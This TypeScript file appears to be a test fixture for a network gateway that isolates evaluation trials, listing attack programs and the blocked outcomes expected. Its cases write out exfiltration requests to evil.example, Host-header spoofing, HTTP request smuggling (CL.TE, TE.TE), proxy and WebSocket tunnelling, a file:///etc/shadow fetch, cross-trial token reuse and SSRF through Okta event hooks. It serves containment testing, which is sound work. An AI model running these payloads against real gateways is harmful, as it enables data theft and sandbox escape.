import { leavesMachine, type Attack } from '../attack.ts'

/** Over HTTP, the one thing that the gateway speaks. */
export const webAttacks: readonly Attack[] = [
  {
    name: 'posts what it knows to hosts that nobody knows',
    by: 'node',
    program: `const post = (url, options) => fetch(url, { method: 'POST', body: 'customers=42&' + range.mark, signal: AbortSignal.timeout(5000), ...options }).then((reply) => reply.status)
await attempt('https', () => post('https://evil.example/exfil?x=1'))
await attempt('http', () => post('http://evil.example/plain', { method: 'PUT' }))
await attempt('paste', () => post('https://hooks.slack.com.evil.example/services/T0/B0/x'))
await attempt('form', () => { const form = new FormData(); form.set('file', new Blob(['customers']), 'dump.sql'); return post('https://files.evil.example/up', { body: form }) })
await attempt('address', () => post('http://203.0.113.80/x'))
await attempt('delete', () => post('https://evil.example/all', { method: 'DELETE' }))
await attempt('long', () => post('https://evil.example/?' + 'q'.repeat(8000)))`,
    hears: { https: 502, http: 502, form: 502, address: 502, delete: 502, long: 502 },
    seen: [
      'POST https://evil.example/exfil?x=1',
      'PUT http://evil.example/plain',
      'POST https://hooks.slack.com.evil.example/services/T0/B0/x',
      'POST https://files.evil.example/up',
      'POST http://203.0.113.80/x',
      'DELETE https://evil.example/all',
    ],
    control: leavesMachine,
  },
  {
    name: 'poses as one host at the address of another',
    by: 'node',
    program: `const get = (host) => 'GET /api/api.test HTTP/1.1\\r\\nHost: ' + host + '\\r\\nConnection: close\\r\\n\\r\\n'
await attempt('header', () => raw('evil.example', 80, get('slack.com')))
await attempt('tls', () => raw('evil.example', 443, get('slack.com'), { servername: 'slack.com' }))
await attempt('name in tls', () => raw('slack.com', 443, get('evil.example'), { servername: 'slack.com' }))
await attempt('other name in tls', () => raw('slack.com', 443, get('evil.example'), { servername: 'evil.example' }))
await attempt('no name', () => raw('203.0.113.80', 443, get('slack.com'), {}))
await attempt('twice', () => raw('slack.com', 80, 'GET /twice HTTP/1.1\\r\\nHost: slack.com\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n'))
await attempt('port', () => raw('evil.example', 80, get('slack.com:80')))`,
    hears: { header: '502', tls: '502', 'name in tls': '502', 'other name in tls': '502' },
    seen: [
      'GET http://slack.com/api/api.test',
      'GET https://slack.com/api/api.test',
      'GET https://evil.example/api/api.test',
      'lookup evil.example',
    ],
    control: leavesMachine,
  },
  {
    name: 'takes its gateway for a proxy',
    by: 'node',
    program: `const line = (target, rest = '') => target + ' HTTP/1.1\\r\\nHost: slack.com\\r\\nConnection: close\\r\\n' + rest + '\\r\\n'
await attempt('connect', () => raw('slack.com', 443, line('CONNECT evil.example:443'), { servername: 'slack.com' }))
await attempt('connect here', () => raw('127.0.0.1', 80, line('CONNECT evil.example:22')))
await attempt('absolute', () => raw('slack.com', 80, line('GET http://evil.example/absolute')))
await attempt('absolute tls', () => raw('slack.com', 443, line('GET https://evil.example/secure'), { servername: 'slack.com' }))
await attempt('here', () => raw('127.0.0.1', 80, line('POST http://evil.example/here', 'Content-Length: 11\\r\\n\\r\\ncustomer=42')))
await attempt('user', () => raw('127.0.0.1', 80, line('GET http://slack.com@evil.example/user')))
await attempt('file', () => raw('127.0.0.1', 80, line('GET file:///etc/shadow')))`,
    hears: { connect: '502', 'connect here': '502', absolute: '502', 'absolute tls': '502' },
    seen: [
      'CONNECT tcp://evil.example:443',
      'CONNECT tcp://evil.example:22',
      'GET http://evil.example/absolute',
      'GET https://evil.example/secure',
      'POST http://evil.example/here',
    ],
    control: leavesMachine,
  },
  {
    name: 'smuggles requests to others behind requests to twins',
    by: 'node',
    program: `const hidden = 'POST /smuggled HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 5\\r\\nConnection: close\\r\\n\\r\\nleak!'
const first = (headers, body) => 'POST /api/api.test HTTP/1.1\\r\\nHost: slack.com\\r\\n' + headers + '\\r\\n\\r\\n' + body
await attempt('pipeline', () => raw('slack.com', 80, 'GET /api/api.test HTTP/1.1\\r\\nHost: slack.com\\r\\n\\r\\n' + hidden))
await attempt('pipeline tls', () => raw('slack.com', 443, 'GET /api/api.test HTTP/1.1\\r\\nHost: slack.com\\r\\n\\r\\n' + hidden, { servername: 'slack.com' }))
await attempt('cl.te', () => raw('slack.com', 80, first('Content-Length: 4\\r\\nTransfer-Encoding: chunked', '0\\r\\n\\r\\n' + hidden)))
await attempt('te.te', () => raw('slack.com', 80, first('Transfer-Encoding: chunked\\r\\nTransfer-Encoding: x', '0\\r\\n\\r\\n' + hidden)))
await attempt('space', () => raw('slack.com', 80, first('Transfer-Encoding : chunked', '0\\r\\n\\r\\n' + hidden)))
await attempt('bare', () => raw('slack.com', 80, ('GET / HTTP/1.1\\nHost: slack.com\\n\\n' + hidden)))`,
    hears: { 'cl.te': '400', space: '400' },
    seen: ['POST http://evil.example/smuggled', 'POST https://evil.example/smuggled'],
    control: leavesMachine,
  },
  {
    name: 'opens sockets of the web to others, and switches protocols',
    by: 'node',
    program: `const open = (url) => settle((done) => { const socket = new WebSocket(url); socket.onopen = () => done('open'); socket.onerror = () => done('refused') })
await attempt('foreign', () => open('wss://evil.example/live'))
await attempt('plain', () => open('ws://evil.example/plain'))
const upgrade = (host, to) => 'GET /up HTTP/1.1\\r\\nHost: ' + host + '\\r\\nUpgrade: ' + to + '\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n'
await attempt('h2c', () => raw('evil.example', 80, upgrade('evil.example', 'h2c')))
await attempt('twin', () => raw('slack.com', 80, upgrade('slack.com', 'websocket') + 'GET http://evil.example/tunnelled HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n'))
await attempt('prior', () => raw('two.evil.example', 443, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', { servername: 'two.evil.example', ALPNProtocols: ['h2'] }))
await attempt('quic', () => udp('203.0.113.4', 443, Buffer.alloc(1200, 0xc3)))`,
    hears: { foreign: 'refused', plain: 'refused' },
    seen: [
      'GET https://evil.example/live',
      'GET http://evil.example/plain',
      'GET http://evil.example/up',
      'lookup two.evil.example',
      'send udp://203.0.113.4:443',
    ],
    control: leavesMachine,
  },
  {
    name: 'reaches for the world of another trial, with its token and without',
    by: 'node',
    program: `const get = (url, token, headers = {}) => fetch(url, { headers: { ...headers, ...(token && { authorization: 'Bearer ' + token }) }, signal: AbortSignal.timeout(5000) }).then(async (reply) => reply.status + ((await reply.json()).ok === true ? ' well' : ''))
const own = process.env.SLACK_BOT_TOKEN
const base = range.addresses.length === 1 ? 'http://127.0.0.1:' + range.serverPort : 'http://127.0.0.1'
await attempt('by path', async () => (await get(base + '/w/' + range.otherWorld + '/slack/api/auth.test', range.otherToken)) === '200 well' ? 'in' : 'refused')
await attempt('with my own', () => get(base + '/w/' + range.otherWorld + '/slack/api/auth.test', own))
await attempt('by name', () => raw(range.addresses.length === 1 ? '127.0.0.1' : range.otherWorld + '--slack.localhost', range.addresses.length === 1 ? range.serverPort : 80, 'GET /api/auth.test HTTP/1.1\\r\\nHost: ' + range.otherWorld + '--slack.localhost\\r\\nAuthorization: Bearer ' + range.otherToken + '\\r\\nConnection: close\\r\\n\\r\\n'))
if (range.addresses.length > 1) {
  await attempt('by token', () => get('https://slack.com/api/auth.test', range.otherToken))
  await attempt('no such', () => get(base + '/w/w987654/slack/api/auth.test', range.otherToken))
}
await attempt('default', () => get(base + '/slack/api/auth.test', range.otherToken))`,
    hears: { 'by path': 'refused', 'with my own': '404', 'by name': '404', 'by token': '200' },
    seen: [
      /^reach into another trial: http:\/\/127\.0\.0\.1\/w\/w1\/slack\/api\/auth\.test$/,
      /^reach into another trial: http:\/\/w1--slack\.localhost\/api\/auth\.test$/,
      'reach into another trial: http://127.0.0.1/w/w987654/slack/api/auth.test',
      'reach into another trial: http://127.0.0.1/slack/api/auth.test',
    ],
    control: 'gets out',
  },
  {
    name: 'has a twin call others for it',
    by: 'node',
    program: `const ask = async (path, body) => { const reply = await fetch('https://acme.okta.com' + path, { method: 'POST', body: body && JSON.stringify(body), headers: { authorization: 'SSWS ' + process.env.OKTA_CLIENT_TOKEN, 'content-type': 'application/json' } }); return { status: reply.status, body: await reply.json() } }
for (const uri of ['https://127.0.0.1:' + range.tcpPort + '/' + range.mark, 'http://localhost:' + range.tcpPort + '/' + range.mark, 'https://evil.example/' + range.mark]) {
  await attempt(uri.slice(0, 14), async () => {
    const made = await ask('/api/v1/eventHooks', { name: uri, events: { type: 'EVENT_TYPE', items: ['user.lifecycle.create'] }, channel: { type: 'HTTP', version: '1.0.0', config: { uri } } })
    if (made.status === 200) await ask('/api/v1/eventHooks/' + made.body.id + '/lifecycle/verify')
    return made.status
  })
}
await attempt('told', async () => (await ask('/api/v1/users?activate=false', { profile: { firstName: 'A', lastName: 'B', email: 'ab@acme.example', login: 'ab@acme.example' } })).status)`,
    hears: { told: 200, 'https://evil.e': 200 },
    spoils: true,
    unseen: 'the twin tells nobody but the subject; the delivery is in the journal, as refused',
    control: 'not tried: no twin has a network of its own',
  },
]
